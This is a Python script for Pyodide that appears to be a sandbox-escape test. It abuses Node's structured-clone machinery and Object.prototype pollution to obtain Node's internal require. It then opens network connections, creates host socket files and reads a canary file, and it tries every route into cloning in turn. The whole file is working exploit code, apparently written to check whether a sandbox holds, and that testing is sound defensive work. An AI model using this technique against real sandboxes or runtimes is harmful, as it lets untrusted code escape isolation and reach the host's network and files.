# Goes for Node's structured-clone machinery: a cloned Blob names the class to rebuild
# ('module:Class'), Node loads that module with its internal require and constructs the class,
# and hooks on Object.prototype pass its checks and catch the instance. With `module:Module` that
# gave Node's require, and every built-in module with it (measured: network, host socket files,
# another process's priority). Every way into cloning is tried.
exec(open("/sandbox/_attack.py").read())
import js
from pyodide.ffi import create_proxy, to_js

Object = js.Object
port, canary, marker = params["port"], params["canaryPath"], params["markerPath"]


def obj(**fields):
    return to_js(fields, dict_converter=Object.fromEntries)


def messaging_symbol(name):
    for owner in (js.Blob, js.File, js.DOMException):
        try:
            for symbol in Object.getOwnPropertySymbols(owner.prototype):
                if str(symbol) == f"Symbol({name})":
                    return symbol
        except Exception:  # noqa: BLE001 - the owner may be gone
            pass
    raise LookupError(name)


def node_require(clone):
    """Makes `clone` clone a Blob that names module:Module, and catches the Module it builds."""
    clone_symbol = messaging_symbol("messaging_clone_symbol")
    deserialize_symbol = messaging_symbol("messaging_deserialize_symbol")
    blob = js.Blob.new(to_js(["x"]))
    js.Reflect.set(blob, clone_symbol, create_proxy(lambda: obj(data=1, deserializeInfo="module:Module")))
    caught = []

    def setter(this, value):
        caught.append(this)
        Object.defineProperty(this, "id", obj(value=value, writable=True, configurable=True))

    js.Reflect.set(Object.prototype, deserialize_symbol, create_proxy(lambda *args: None))
    Object.defineProperty(Object.prototype, "id", obj(set=create_proxy(setter, capture_this=True), configurable=True))
    try:
        clone(blob)
    finally:
        js.Reflect.deleteProperty(Object.prototype, "id")
        js.Reflect.deleteProperty(Object.prototype, deserialize_symbol)
    return caught[0].require


def use_node(clone):
    require = node_require(clone)
    require("net").connect(port, "127.0.0.1")
    require("net").createServer().listen(marker)
    return require("fs").readFileSync(canary, "utf8")


attempt("structuredClone", lambda: use_node(js.structuredClone))
attempt("MessageChannel", lambda: use_node(lambda blob: js.MessageChannel.new().port1.postMessage(blob)))
attempt("BroadcastChannel", lambda: use_node(lambda blob: js.BroadcastChannel.new("x").postMessage(blob)))
attempt("performance.mark", lambda: use_node(lambda blob: js.performance.mark("x", obj(detail=blob))))
attempt("PerformanceMark", lambda: use_node(lambda blob: js.PerformanceMark.new("x", obj(detail=blob))))
attempt("messaging symbols on Object.prototype", lambda: js.Reflect.set(Object.prototype, messaging_symbol("messaging_deserialize_symbol"), 1))
report()
